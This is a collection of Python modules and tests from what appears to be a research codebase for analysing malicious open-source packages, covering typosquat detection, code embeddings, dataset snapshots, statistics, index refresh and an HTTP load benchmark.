