"""Typosquatting detection by edit distance against popular names.

Typosquatting is the most popular attack vector in OSS ecosystems
(Section V cites Spellbound and related work); the detector flags a
package whose name sits within a small Damerau-Levenshtein distance of a
popular package without being it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.malware.naming import POPULAR_NAMES


def damerau_levenshtein(a: str, b: str, cap: int = 4) -> int:
    """Restricted Damerau-Levenshtein distance with an early-exit cap.

    Returns ``cap`` when the true distance is >= cap, which keeps the
    scan O(len_a * len_b) only for plausibly-close pairs.
    """
    if a == b:
        return 0
    if abs(len(a) - len(b)) >= cap:
        return cap
    previous2: Optional[List[int]] = None
    previous = list(range(len(b) + 1))
    for i, ca in enumerate(a, start=1):
        current = [i] + [0] * len(b)
        row_min = i
        for j, cb in enumerate(b, start=1):
            cost = 0 if ca == cb else 1
            value = min(
                previous[j] + 1,  # deletion
                current[j - 1] + 1,  # insertion
                previous[j - 1] + cost,  # substitution
            )
            if (
                previous2 is not None
                and i > 1
                and j > 1
                and ca == b[j - 2]
                and a[i - 2] == cb
            ):
                value = min(value, previous2[j - 2] + 1)  # transposition
            current[j] = value
            row_min = min(row_min, value)
        if row_min >= cap:
            return cap
        previous2, previous = previous, current
    return min(previous[-1], cap)


def _normalize(name: str) -> str:
    return name.lower().replace("-", "").replace("_", "").replace(".", "")


@dataclass
class SquatMatch:
    """A name flagged as squatting a popular package."""

    name: str
    target: str
    distance: int
    kind: str  # "typo" | "combo"


class TyposquatIndex:
    """Pre-indexed popular names for fast squat lookup."""

    def __init__(
        self,
        popular: Optional[Dict[str, Sequence[str]]] = None,
        max_distance: int = 2,
    ):
        self.popular = {
            eco: list(names) for eco, names in (popular or POPULAR_NAMES).items()
        }
        self.max_distance = max_distance

    def check(self, ecosystem: str, name: str) -> Optional[SquatMatch]:
        """Return the closest squat target, or None if the name is clean."""
        candidates = self.popular.get(ecosystem, [])
        normalized = _normalize(name)
        best: Optional[SquatMatch] = None
        for target in candidates:
            if name == target:
                return None  # it IS the popular package
            target_norm = _normalize(target)
            if target_norm == normalized:
                # normalization collision ('scipy-' vs 'scipy'): a pure
                # separator/case squat — the strongest typo signal.
                return SquatMatch(name=name, target=target, distance=0, kind="typo")
            # combosquat: popular name embedded with an affix
            if (
                target_norm
                and target_norm != normalized
                and (
                    normalized.startswith(target_norm)
                    or normalized.endswith(target_norm)
                )
                and len(normalized) - len(target_norm) <= 8
            ):
                match = SquatMatch(name=name, target=target, distance=0, kind="combo")
                if best is None or best.kind != "typo":
                    best = match
                continue
            distance = damerau_levenshtein(
                normalized, target_norm, cap=self.max_distance + 1
            )
            if 1 <= distance <= self.max_distance:
                if best is None or distance < best.distance or best.kind == "combo":
                    best = SquatMatch(
                        name=name, target=target, distance=distance, kind="typo"
                    )
        return best
