"""Section II-D dynamic-changing: snapshots and stability series."""

from __future__ import annotations

import pytest

from repro.analysis.stability import (
    DEFAULT_METRICS,
    StabilitySeries,
    compute_stability,
    snapshot_dataset,
)
from repro.collection.records import SourceClaim

from tests.core.helpers import dataset, entry, report


def _timed_dataset():
    early = entry("early", release_day=100)
    early.claims = [SourceClaim("snyk", 110, True)]
    late = entry("late", code="L = 1\n", release_day=500)
    late.claims = [SourceClaim("phylum", 510, False)]
    both = entry("both", code="B = 1\n", release_day=100)
    both.claims = [
        SourceClaim("snyk", 120, False),
        SourceClaim("tianwen", 520, True),
    ]
    return dataset(
        [early, late, both],
        [
            report("r-early", [early.package], publish_day=130),
            report("r-late", [late.package, both.package], publish_day=530),
        ],
    )


def test_snapshot_drops_unreported_entries():
    snap = snapshot_dataset(_timed_dataset(), cutoff_day=200)
    names = {e.package.name for e in snap.entries}
    assert names == {"early", "both"}


def test_snapshot_filters_claims():
    snap = snapshot_dataset(_timed_dataset(), cutoff_day=200)
    both = next(e for e in snap.entries if e.package.name == "both")
    assert [c.source for c in both.claims] == ["snyk"]


def test_snapshot_artifact_requires_kept_sharing_claim():
    snap = snapshot_dataset(_timed_dataset(), cutoff_day=200)
    both = next(e for e in snap.entries if e.package.name == "both")
    # 'both' became available only via the day-520 tianwen claim
    assert not both.available
    early = next(e for e in snap.entries if e.package.name == "early")
    assert early.available


def test_snapshot_keeps_mirror_recoveries():
    ds = _timed_dataset()
    target = next(e for e in ds.entries if e.package.name == "both")
    target.artifact_origin = "mirror:pypi-m1"
    snap = snapshot_dataset(ds, cutoff_day=200)
    both = next(e for e in snap.entries if e.package.name == "both")
    assert both.available


def test_snapshot_filters_reports():
    snap = snapshot_dataset(_timed_dataset(), cutoff_day=200)
    assert [r.report_id for r in snap.reports] == ["r-early"]


def test_snapshot_at_horizon_is_full_dataset():
    ds = _timed_dataset()
    snap = snapshot_dataset(ds, cutoff_day=10_000)
    assert len(snap) == len(ds)
    assert len(snap.reports) == len(ds.reports)


def test_snapshot_does_not_mutate_original():
    ds = _timed_dataset()
    claims_before = {e.package.name: len(e.claims) for e in ds.entries}
    snapshot_dataset(ds, cutoff_day=200)
    assert {e.package.name: len(e.claims) for e in ds.entries} == claims_before


def test_compute_stability_empty_dataset():
    series = compute_stability(dataset([]))
    assert series.cutoffs == []


def test_compute_stability_monotone_package_counts(small_dataset):
    series = compute_stability(small_dataset, snapshots=5)
    assert len(series.cutoffs) == 5
    assert series.cutoffs == sorted(series.cutoffs)
    counts = series.metrics["packages"]
    assert counts == sorted(counts), "packages only accumulate"
    assert counts[-1] == len(small_dataset)


def test_world_metrics_are_stable(paper):
    """The paper's claim: the *rate* metrics settle as the dataset grows
    (raw counts keep accumulating, which is fine)."""
    series = compute_stability(paper.dataset, snapshots=6)
    assert series.final_drift("missing_rate_%") < 0.05
    assert series.final_drift("single_source_%") < 0.05
    assert series.metrics["packages"][-1] == len(paper.dataset)


def test_stability_render(small_dataset):
    out = compute_stability(small_dataset, snapshots=3).render()
    assert "Dynamic changing" in out
    assert "missing_rate_%" in out


def test_snapshot_monotone_in_cutoff(small_dataset):
    """Later snapshots contain everything earlier snapshots do."""
    earlier = snapshot_dataset(small_dataset, cutoff_day=1500)
    later = snapshot_dataset(small_dataset, cutoff_day=2000)
    earlier_keys = {e.package for e in earlier.entries}
    later_keys = {e.package for e in later.entries}
    assert earlier_keys <= later_keys
    earlier_reports = {r.report_id for r in earlier.reports}
    later_reports = {r.report_id for r in later.reports}
    assert earlier_reports <= later_reports
    # availability can only improve with more knowledge
    for entry in earlier.entries:
        if entry.available:
            counterpart = later.get(entry.package)
            assert counterpart.available


def test_snapshot_claims_respect_cutoff(small_dataset):
    cutoff = 1600
    snap = snapshot_dataset(small_dataset, cutoff)
    for entry in snap.entries:
        assert all(c.report_day <= cutoff for c in entry.claims)
    for rep in snap.reports:
        assert rep.publish_day is None or rep.publish_day <= cutoff


def test_custom_metrics(small_dataset):
    series = compute_stability(
        small_dataset,
        snapshots=3,
        metrics={"available": lambda ds: float(len(ds.available_entries()))},
    )
    assert list(series.metrics) == ["available"]
    assert len(series.metrics["available"]) == 3
