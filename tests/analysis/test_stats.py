"""Statistics helpers: CDFs, quantiles, box stats, binning."""

from __future__ import annotations

import math

import pytest
from hypothesis import given, settings, strategies as st

from repro.analysis.stats import (
    BoxStats,
    bin_by,
    box_stats,
    cdf_fraction_at,
    empirical_cdf,
    percentage,
    quantile_at_fraction,
)

samples = st.lists(
    st.floats(-1e6, 1e6, allow_nan=False, allow_infinity=False),
    min_size=1,
    max_size=60,
)


# -- empirical_cdf ----------------------------------------------------------------

def test_empirical_cdf_simple():
    points = empirical_cdf([1, 1, 2, 4])
    assert [(p.value, p.fraction) for p in points] == [
        (1.0, 0.5),
        (2.0, 0.75),
        (4.0, 1.0),
    ]


def test_empirical_cdf_empty():
    assert empirical_cdf([]) == []


@given(samples)
@settings(max_examples=60, deadline=None)
def test_empirical_cdf_properties(values):
    points = empirical_cdf(values)
    fractions = [p.fraction for p in points]
    xs = [p.value for p in points]
    assert xs == sorted(set(xs)), "one point per distinct value, sorted"
    assert fractions == sorted(fractions), "CDF is nondecreasing"
    assert fractions[-1] == pytest.approx(1.0)
    assert all(0 < f <= 1 for f in fractions)


# -- cdf_fraction_at -----------------------------------------------------------------

def test_cdf_fraction_at_basics():
    values = [1, 2, 3, 4]
    assert cdf_fraction_at(values, 0) == 0.0
    assert cdf_fraction_at(values, 1) == 0.25
    assert cdf_fraction_at(values, 2.5) == 0.5
    assert cdf_fraction_at(values, 10) == 1.0
    assert cdf_fraction_at([], 5) == 0.0


@given(samples, st.floats(-1e6, 1e6, allow_nan=False))
@settings(max_examples=60, deadline=None)
def test_cdf_fraction_matches_definition(values, threshold):
    expected = sum(1 for v in values if v <= threshold) / len(values)
    assert cdf_fraction_at(values, threshold) == pytest.approx(expected)


# -- quantile_at_fraction ----------------------------------------------------------

def test_quantile_at_fraction_basics():
    values = [10, 20, 30, 40, 50]
    assert quantile_at_fraction(values, 0.2) == 10
    assert quantile_at_fraction(values, 0.8) == 40
    assert quantile_at_fraction(values, 1.0) == 50
    assert math.isnan(quantile_at_fraction([], 0.5))


@given(samples, st.floats(0.01, 1.0))
@settings(max_examples=60, deadline=None)
def test_quantile_is_galois_adjoint_of_cdf(values, fraction):
    """quantile(f) is the smallest sample value whose CDF >= f."""
    q = quantile_at_fraction(values, fraction)
    assert q in [float(v) for v in values]
    assert cdf_fraction_at(values, q) >= fraction - 1e-9
    below = [v for v in values if v < q]
    if below:
        assert cdf_fraction_at(values, max(below)) < fraction


# -- box_stats -----------------------------------------------------------------------

def test_box_stats_five_numbers():
    box = box_stats([1, 2, 3, 4, 100])
    assert box.count == 5
    assert box.minimum == 1
    assert box.median == 3
    assert box.maximum == 100
    assert box.iqr == box.q3 - box.q1


def test_box_stats_empty_is_none():
    assert box_stats([]) is None


@given(samples)
@settings(max_examples=60, deadline=None)
def test_box_stats_ordering(values):
    box = box_stats(values)
    assert box.minimum <= box.q1 <= box.median <= box.q3 <= box.maximum
    assert box.count == len(values)
    assert box.iqr >= 0


# -- bin_by / percentage ----------------------------------------------------------------

def test_bin_by_groups_and_sorts_keys():
    bins = bin_by([3, 1, 4, 1, 5], key=lambda v: v % 2)
    assert list(bins) == [0, 1]
    assert bins[1] == [3, 1, 1, 5]
    assert bins[0] == [4]


def test_bin_by_unsorted():
    bins = bin_by(["bb", "a", "ccc"], key=len, sort_keys=False)
    assert list(bins) == [2, 1, 3]


def test_percentage():
    assert percentage(1, 4) == 25.0
    assert percentage(0, 0) == 0.0
    assert percentage(5, 0) == 0.0
