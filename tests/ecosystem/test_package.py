"""PackageArtifact: identity, signatures, serialisation."""

import json

import pytest
from hypothesis import given, strategies as st

from repro.ecosystem.package import (
    ECOSYSTEMS,
    METADATA_FILENAMES,
    PackageArtifact,
    PackageId,
    PackageMetadata,
    make_artifact,
    parse_coordinate,
)


def make(name="pkg-a", version="1.0.0", code="x = 1\n", description="d"):
    return make_artifact(
        ecosystem="pypi",
        name=name,
        version=version,
        files={"mod/main.py": code},
        description=description,
    )


def test_id_ordering_and_coordinate():
    a = PackageId("pypi", "aaa", "1.0.0")
    b = PackageId("pypi", "bbb", "1.0.0")
    assert a < b
    assert a.coordinate == "aaa-1.0.0"


def test_config_file_written_per_ecosystem():
    artifact = make()
    assert METADATA_FILENAMES["pypi"] in artifact.files
    payload = json.loads(artifact.files[METADATA_FILENAMES["pypi"]])
    assert payload["name"] == "pkg-a"
    assert payload["version"] == "1.0.0"


def test_signature_covers_code_only():
    """Renaming or editing metadata must not change the signature —
    that property is what the duplicated edge exploits."""
    a = make(name="brock-loader", description="one")
    b = make(name="soltalabs-ramda-extra", description="two")
    assert a.sha256() == b.sha256()


def test_signature_changes_with_code():
    assert make(code="x = 1\n").sha256() != make(code="x = 2\n").sha256()


def test_code_files_excludes_config():
    artifact = make()
    assert list(artifact.code_files()) == ["mod/main.py"]


def test_loc_counts_nonblank_lines():
    artifact = make(code="a = 1\n\nb = 2\n  \nc = 3\n")
    assert artifact.loc() == 3


def test_serialisation_roundtrip():
    artifact = make()
    clone = PackageArtifact.from_dict(artifact.to_dict())
    assert clone.id == artifact.id
    assert clone.sha256() == artifact.sha256()
    assert clone.metadata.description == artifact.metadata.description


def test_ecosystem_catalogue():
    assert len(ECOSYSTEMS) == 10  # the paper covers 10 ecosystems
    assert {"pypi", "npm", "rubygems"} <= set(ECOSYSTEMS)


@pytest.mark.parametrize(
    "coordinate,expected",
    [
        ("brock-loader-1.9.9", ("brock-loader", "1.9.9")),
        ("pkg-2.0", ("pkg", "2.0")),
        ("noversion", ("noversion", "")),
        ("trailing-dash-", ("trailing-dash-", "")),
    ],
)
def test_parse_coordinate(coordinate, expected):
    assert parse_coordinate(coordinate) == expected


@given(
    name=st.text(
        alphabet=st.characters(whitelist_categories=("Ll",), max_codepoint=127),
        min_size=1,
        max_size=12,
    ),
    version=st.from_regex(r"[0-9]\.[0-9]\.[0-9]", fullmatch=True),
)
def test_parse_coordinate_roundtrip(name, version):
    assert parse_coordinate(f"{name}-{version}") == (name, version)


def test_code_text_concatenates_in_path_order():
    from repro.ecosystem.package import make_artifact

    artifact = make_artifact(
        "pypi", "p", "1.0", {"pkg/b.py": "B = 2\n", "pkg/a.py": "A = 1\n"}
    )
    assert artifact.code_text() == "A = 1\n\nB = 2\n"


def test_sha256_is_memoised():
    """The signature is computed once and served from the artifact after
    that — node building, duplicate edges and embedding all call it."""
    from unittest import mock

    from repro.ecosystem.package import make_artifact

    artifact = make_artifact("pypi", "p", "1.0", {"pkg/a.py": "A = 1\n"})
    first = artifact.sha256()
    with mock.patch.object(
        type(artifact), "canonical_code_bytes",
        side_effect=AssertionError("sha256 recomputed"),
    ):
        assert artifact.sha256() == first


def test_sha256_memo_excluded_from_equality():
    """Computing the signature must not make two equal artifacts differ."""
    from repro.ecosystem.package import make_artifact

    a = make_artifact("pypi", "p", "1.0", {"pkg/a.py": "A = 1\n"})
    b = make_artifact("pypi", "p", "1.0", {"pkg/a.py": "A = 1\n"})
    a.sha256()
    assert a == b
