"""AST code embeddings (the OpenAI-embedding substitute).

Section III-A embeds each package's AST with OpenAI's
``text-embedding-3-large``. Offline we use a deterministic feature-hashed
embedding with the property the pipeline actually relies on: *similar
source code maps to nearby vectors*. Features are:

* **structural n-grams** — parent→child AST node-type digrams and
  DFS-path trigrams, capturing program shape independent of naming;
* **lexical tokens** — identifier names, attribute names, call names and
  short string constants, capturing the campaign-specific vocabulary
  (hosts, tokens, helper names) that distinguishes one actor's code base
  from another's use of the same general pattern.

Each feature is hashed into a fixed-dimension signed bucket (feature
hashing), TF-weighted and L2-normalised, so cosine similarity is a dot
product.
"""

from __future__ import annotations

import ast
import hashlib
import math
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Sequence

import numpy as np

from repro.ecosystem.package import PackageArtifact
from repro.errors import EmbeddingError

#: The paper reports an embedding dimension of 3,072 with 8,000-token
#: inputs; 256 hashed dimensions give the same clustering behaviour at a
#: fraction of the cost.
DEFAULT_DIM = 256


def _bucket(feature: str, dim: int) -> "tuple[int, float]":
    """Feature -> (bucket index, sign) via a stable hash."""
    digest = hashlib.md5(feature.encode("utf-8")).digest()
    index = int.from_bytes(digest[:4], "big") % dim
    sign = 1.0 if digest[4] & 1 else -1.0
    return index, sign


def iter_structural_features(tree: ast.AST) -> Iterable[str]:
    """Parent->child digrams and grandparent paths over node types."""
    stack: List[tuple] = [(tree, None, None)]
    while stack:
        node, parent, grandparent = stack.pop()
        name = type(node).__name__
        if parent is not None:
            yield f"st2:{parent}>{name}"
        if grandparent is not None:
            yield f"st3:{grandparent}>{parent}>{name}"
        for child in ast.iter_child_nodes(node):
            stack.append((child, name, parent))


def iter_lexical_features(tree: ast.AST) -> Iterable[str]:
    """Identifier / attribute / literal vocabulary of the code."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Name):
            yield f"id:{node.id}"
        elif isinstance(node, ast.Attribute):
            yield f"attr:{node.attr}"
        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            yield f"def:{node.name}"
        elif isinstance(node, ast.arg):
            yield f"arg:{node.arg}"
        elif isinstance(node, ast.Constant) and isinstance(node.value, str):
            value = node.value
            if 0 < len(value) <= 60:
                yield f"str:{value}"
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            for alias in node.names:
                yield f"import:{alias.name}"


def _token_fallback_features(source: str) -> Iterable[str]:
    """Crude token features for code that does not parse as Python."""
    token = []
    for ch in source:
        if ch.isalnum() or ch == "_":
            token.append(ch)
        else:
            if len(token) > 1:
                yield f"tok:{''.join(token)}"
            token = []
    if len(token) > 1:
        yield f"tok:{''.join(token)}"


@dataclass
class AstEmbedder:
    """Deterministic code embedder.

    ``structural_weight`` balances shape vs vocabulary: structure groups
    same-behaviour code, vocabulary separates distinct campaigns.
    """

    dim: int = DEFAULT_DIM
    structural_weight: float = 0.15
    lexical_weight: float = 5.0
    max_tokens: int = 8000  # matches the paper's input truncation

    def embed_source(self, source: str) -> np.ndarray:
        """Embed one source file.

        Term frequencies are damped with ``log1p`` so the handful of
        campaign-specific identifiers is not drowned out by the hundreds
        of repeated structural digrams every package shares.
        """
        vector = np.zeros(self.dim, dtype=np.float64)
        try:
            tree = ast.parse(source)
        except SyntaxError:
            counts: Dict[str, int] = {}
            for count, feature in enumerate(_token_fallback_features(source)):
                if count >= self.max_tokens:
                    break
                counts[feature] = counts.get(feature, 0) + 1
            self._accumulate(vector, counts, 1.0)
            return self._normalize(vector)
        structural: Dict[str, int] = {}
        lexical: Dict[str, int] = {}
        budget = self.max_tokens
        for feature in iter_structural_features(tree):
            if budget <= 0:
                break
            budget -= 1
            structural[feature] = structural.get(feature, 0) + 1
        for feature in iter_lexical_features(tree):
            if budget <= 0:
                break
            budget -= 1
            lexical[feature] = lexical.get(feature, 0) + 1
        self._accumulate(vector, structural, self.structural_weight)
        self._accumulate(vector, lexical, self.lexical_weight)
        return self._normalize(vector)

    def _accumulate(
        self, vector: np.ndarray, counts: Dict[str, int], weight: float
    ) -> None:
        for feature, count in counts.items():
            index, sign = _bucket(feature, self.dim)
            vector[index] += sign * weight * math.log1p(count)

    def embed_package(self, artifact: PackageArtifact) -> np.ndarray:
        """Embed a package: normalised sum of its code-file embeddings."""
        code_files = artifact.code_files()
        if not code_files:
            raise EmbeddingError(
                f"{artifact.id} has no code files to embed"
            )
        total = np.zeros(self.dim, dtype=np.float64)
        for _path, source in code_files.items():
            total += self.embed_source(source)
        return self._normalize(total)

    def embed_many(self, artifacts: Sequence[PackageArtifact]) -> np.ndarray:
        """Embed a batch into an (n, dim) matrix of unit rows."""
        if not artifacts:
            return np.zeros((0, self.dim), dtype=np.float64)
        matrix = np.empty((len(artifacts), self.dim), dtype=np.float64)
        cache: Dict[str, np.ndarray] = {}
        for row, artifact in enumerate(artifacts):
            signature = artifact.sha256()
            vector = cache.get(signature)
            if vector is None:
                vector = self.embed_package(artifact)
                cache[signature] = vector
            matrix[row] = vector
        return matrix

    @staticmethod
    def _normalize(vector: np.ndarray) -> np.ndarray:
        norm = float(np.linalg.norm(vector))
        if norm == 0.0:
            return vector
        return vector / norm


def cosine_similarity(a: np.ndarray, b: np.ndarray) -> float:
    """Cosine similarity of two (already normalised or not) vectors."""
    denom = float(np.linalg.norm(a)) * float(np.linalg.norm(b))
    if denom == 0.0:
        return 0.0
    return float(np.dot(a, b)) / denom
