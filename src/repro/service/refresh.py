"""Incremental index refresh from a collection-merge diff.

The paper's future-work loop keeps collecting; a live service cannot
rebuild its index (and certainly not the similarity clustering) for
every re-collection. ``refresh_index`` merges the new run into the
served dataset with :func:`repro.collection.merge.merge_datasets`, takes
the :func:`~repro.collection.merge.diff_datasets` delta and applies
exactly that delta to the live :class:`~repro.service.index.IntelIndex`:

* added packages become resolvable by name / name+version / ecosystem;
* newly recovered artifacts register their SHA256, and signature
  collisions link the package into a duplicated-family group;
* new reports contribute actor aliases and co-existing campaign groups.

Similarity (SG) and dependency (DeG) associations require re-running the
graph build; refreshed packages simply carry none until then. The
wrapped service's LRU is invalidated so stale verdicts cannot be served.

When a service is supplied, the whole merge→swap→re-index→invalidate
sequence runs under the service's request lock, so concurrent HTTP
readers never observe a half-refreshed index or a verdict cached
against the outgoing dataset.
"""

from __future__ import annotations

import contextlib
from dataclasses import dataclass
from typing import Optional, Tuple

from repro.collection.merge import DatasetDiff, diff_datasets, merge_datasets
from repro.collection.records import MalwareDataset
from repro.core.groups import GroupKind
from repro.service.cache import EnrichmentService
from repro.service.index import IntelIndex


@dataclass
class RefreshStats:
    """What one incremental refresh changed."""

    packages_added: int = 0
    signatures_updated: int = 0
    families_linked: int = 0
    campaigns_added: int = 0
    reports_added: int = 0
    cache_cleared: bool = False

    def summary(self) -> str:
        return (
            f"+{self.packages_added} packages, "
            f"{self.signatures_updated} signatures updated, "
            f"{self.families_linked} family links, "
            f"+{self.campaigns_added} campaigns, "
            f"+{self.reports_added} reports"
            f"{', cache cleared' if self.cache_cleared else ''}"
        )


def _link_duplicate_family(index: IntelIndex, sha256: Optional[str]) -> bool:
    """Group every package sharing ``sha256`` as a duplicated family.

    Reuses an existing DG group when one of the signature's packages is
    already in it; otherwise mints a refresh-scoped group id.
    """
    if sha256 is None:
        return False
    members = index.sha_bucket(sha256)
    if len(members) < 2:
        return False
    group_id = None
    for pid in members:
        for held in index.groups_of(pid):
            if index.group_kind(held) is GroupKind.DG:
                group_id = held
                break
        if group_id:
            break
    if group_id is None:
        group_id = index.next_refresh_group_id(GroupKind.DG)
    index.register_group(group_id, GroupKind.DG, members)
    return True


def refresh_index(
    index: IntelIndex,
    new_dataset: MalwareDataset,
    service: Optional[EnrichmentService] = None,
) -> Tuple[MalwareDataset, DatasetDiff, RefreshStats]:
    """Merge a re-collected dataset into the live index, delta only.

    Returns the merged dataset (now the one the index serves), the diff
    that was applied, and counters describing the change.
    """
    guard = service.lock if service is not None else contextlib.nullcontext()
    with guard:
        return _apply_refresh(index, new_dataset, service)


def _apply_refresh(
    index: IntelIndex,
    new_dataset: MalwareDataset,
    service: Optional[EnrichmentService],
) -> Tuple[MalwareDataset, DatasetDiff, RefreshStats]:
    old = index.dataset
    merged = merge_datasets(old, new_dataset)
    diff = diff_datasets(old, merged)
    stats = RefreshStats(reports_added=len(diff.new_reports))

    # The index resolves entries through its dataset reference, so the
    # swap retargets every already-indexed PackageId at the merged
    # (possibly claim-richer) entries for free.
    index.dataset = merged

    for pid in diff.added:
        entry = merged.get(pid)
        if entry is None:  # pragma: no cover - diff and merge agree
            continue
        index.add_entry(entry)
        stats.packages_added += 1
        if _link_duplicate_family(index, entry.sha256()):
            stats.families_linked += 1

    for pid in diff.newly_available:
        entry = merged.get(pid)
        if entry is None:  # pragma: no cover - diff and merge agree
            continue
        index.register_sha(entry)
        stats.signatures_updated += 1
        if _link_duplicate_family(index, entry.sha256()):
            stats.families_linked += 1

    new_report_ids = set(diff.new_reports)
    for report in merged.reports:
        if report.report_id not in new_report_ids:
            continue
        index.add_report(report)
        resolvable = [p for p in report.packages if merged.get(p) is not None]
        if len(set(resolvable)) >= 2:
            group_id = index.next_refresh_group_id(GroupKind.CG)
            index.register_group(group_id, GroupKind.CG, sorted(set(resolvable)))
            stats.campaigns_added += 1

    if service is not None:
        service.invalidate()
        stats.cache_cleared = True
    return merged, diff, stats
