"""Concurrent-load benchmark for the enrichment HTTP server (not a paper
table).

Boots the server on an ephemeral port over the default-world service,
then sweeps threads x batch-size combinations driving real HTTP traffic
from a thread pool: single-indicator ``GET /v1/enrich`` for batch size
1, ``POST /v1/enrich/batch`` otherwise. Reports requests/sec and
client-observed tail latency (p50/p95/p99) per combination, and asserts
the server's own ``/v1/metrics`` accounting matches the traffic sent —
a lost request or a swallowed error fails the bench.
"""

from __future__ import annotations

import json
import threading
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from typing import List, Tuple

import pytest

from repro.service.cache import build_service
from repro.service.server import create_server, server_address

THREAD_SWEEP = (1, 4, 8)
BATCH_SIZES = (1, 32)
REQUESTS_PER_COMBO = 200


@pytest.fixture(scope="module")
def live_server(artifacts):
    """The default-world service behind a real socket; yields the URL."""
    service = build_service(artifacts.malgraph, capacity=65_536)
    server = create_server(service, port=0)
    host, port = server_address(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://{host}:{port}", service, server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def names(artifacts) -> List[str]:
    return [e.package.name for e in artifacts.dataset.entries[:512]]


def _request(base: str, names: List[str], batch_size: int, i: int) -> Tuple[int, float]:
    """One timed request; returns (status, seconds)."""
    started = time.perf_counter()
    if batch_size == 1:
        url = f"{base}/v1/enrich?name={names[i % len(names)]}"
        with urllib.request.urlopen(url, timeout=30) as response:
            status = response.status
            response.read()
    else:
        payload = {
            "indicators": [
                {"name": names[(i + j) % len(names)]} for j in range(batch_size)
            ]
        }
        request = urllib.request.Request(
            f"{base}/v1/enrich/batch",
            data=json.dumps(payload).encode(),
            headers={"Content-Type": "application/json"},
        )
        with urllib.request.urlopen(request, timeout=30) as response:
            status = response.status
            response.read()
    return status, time.perf_counter() - started


def _percentile(sorted_values: List[float], p: float) -> float:
    index = min(len(sorted_values) - 1, int(p * len(sorted_values)))
    return sorted_values[index]


def test_concurrent_load_sweep(live_server, names, show):
    base, _, server = live_server
    lines = [
        f"{'threads':>7} {'batch':>5} {'req/s':>10} "
        f"{'p50 ms':>8} {'p95 ms':>8} {'p99 ms':>8}"
    ]
    sent = 0
    for batch_size in BATCH_SIZES:
        for threads in THREAD_SWEEP:
            started = time.perf_counter()
            with ThreadPoolExecutor(max_workers=threads) as pool:
                outcomes = list(
                    pool.map(
                        lambda i: _request(base, names, batch_size, i),
                        range(REQUESTS_PER_COMBO),
                    )
                )
            elapsed = time.perf_counter() - started
            sent += REQUESTS_PER_COMBO
            assert all(status == 200 for status, _ in outcomes)
            latencies = sorted(seconds for _, seconds in outcomes)
            lines.append(
                f"{threads:>7} {batch_size:>5} "
                f"{REQUESTS_PER_COMBO / elapsed:>10.0f} "
                f"{_percentile(latencies, 0.50) * 1000:>8.2f} "
                f"{_percentile(latencies, 0.95) * 1000:>8.2f} "
                f"{_percentile(latencies, 0.99) * 1000:>8.2f}"
            )
    show("Service concurrent load (requests/sec, client latency)", "\n".join(lines))

    # the server accounted for every request we sent, none dropped
    snapshot = server.metrics.snapshot()
    assert snapshot["total_requests"] == sent
    by_endpoint = snapshot["endpoints"]
    assert by_endpoint["/v1/enrich"]["status"] == {
        "200": len(THREAD_SWEEP) * REQUESTS_PER_COMBO
    }
    assert by_endpoint["/v1/enrich/batch"]["status"] == {
        "200": len(THREAD_SWEEP) * REQUESTS_PER_COMBO
    }


def test_single_enrich_http_roundtrip(benchmark, live_server, names):
    """One warmed single-indicator HTTP round-trip (the floor latency)."""
    base, _, _ = live_server
    counter = iter(range(10_000_000))
    result = benchmark(lambda: _request(base, names, 1, next(counter)))
    assert result[0] == 200
