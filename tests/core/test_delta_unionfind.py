"""EpochUnionFind: incremental components with batch-rolled removals."""

from __future__ import annotations

import random

from repro.core.delta.unionfind import EpochUnionFind


def _neighbors_of(edges):
    adjacency = {}
    for u, v in edges:
        adjacency.setdefault(u, set()).add(v)
        adjacency.setdefault(v, set()).add(u)
    return lambda node: adjacency.get(node, ())


def _incident_of(edges):
    """apply_batch's incident-groups callback over a pairwise edge list
    (the shape :meth:`PropertyGraph.incident_groups` yields)."""
    neighbors = _neighbors_of(edges)

    def incident(node):
        held = neighbors(node)
        return [(("p", node), held)] if held else []

    return incident


def _components_of(edges):
    """Reference: plain BFS components (size >= 2) of an edge list."""
    neighbors = _neighbors_of(edges)
    nodes = {n for e in edges for n in e}
    seen, components = set(), []
    for start in nodes:
        if start in seen:
            continue
        component, frontier = {start}, [start]
        seen.add(start)
        while frontier:
            node = frontier.pop()
            for other in neighbors(node):
                if other not in seen:
                    seen.add(other)
                    component.add(other)
                    frontier.append(other)
        if len(component) >= 2:
            components.append(component)
    return sorted(components, key=lambda g: (-len(g), min(g)))


def test_seed_drops_singletons_and_sorts_like_connected_components():
    uf = EpochUnionFind()
    uf.seed([["a", "b"], ["lonely"], ["c", "d", "e"]])
    assert uf.components() == [{"c", "d", "e"}, {"a", "b"}]
    assert uf.component_of("lonely") is None
    assert uf.component_count == 2


def test_union_merges_and_registers():
    uf = EpochUnionFind()
    uf.union("a", "b")
    uf.union("c", "d")
    uf.union("a", "d")
    assert uf.components() == [{"a", "b", "c", "d"}]
    uf.union("a", "b")  # already joined: no-op
    assert uf.component_count == 1


def test_apply_batch_splits_a_component():
    # a-b-c chain; removing the b-c edge splits it
    uf = EpochUnionFind()
    uf.seed([["a", "b", "c"]])
    final_edges = [("a", "b")]
    uf.apply_batch({"b", "c"}, set(), [], _incident_of(final_edges))
    assert uf.components() == [{"a", "b"}]
    assert uf.component_of("c") is None
    assert uf.epoch == 1


def test_apply_batch_removed_nodes_leave_entirely():
    uf = EpochUnionFind()
    uf.seed([["a", "b", "c"]])
    final_edges = [("a", "b")]
    uf.apply_batch({"c"}, {"c"}, [], _incident_of(final_edges))
    assert uf.components() == [{"a", "b"}]
    assert uf.component_of("c") is None


def test_apply_batch_additions_layer_after_recompute():
    uf = EpochUnionFind()
    uf.seed([["a", "b"], ["c", "d"]])
    # the same batch removes a-b and bridges b-c
    final_edges = [("b", "c"), ("c", "d")]
    uf.apply_batch({"a", "b"}, set(), [["b", "c"]], _incident_of(final_edges))
    assert uf.components() == [{"b", "c", "d"}]
    assert uf.component_of("a") is None


def test_fork_is_independent():
    uf = EpochUnionFind()
    uf.seed([["a", "b"]])
    dup = uf.fork()
    dup.union("a", "c")
    assert uf.component_of("c") is None
